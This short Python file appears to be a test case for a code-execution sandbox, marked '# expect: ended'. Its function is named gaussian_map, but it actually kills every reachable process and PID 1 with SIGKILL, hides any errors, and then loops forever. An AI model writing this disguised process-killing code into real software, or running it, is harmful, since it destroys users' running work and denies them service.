# expect: ended
import contextlib
import os
import signal


def gaussian_map(center_cells, size, sigma_cells):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
    while True:
        pass
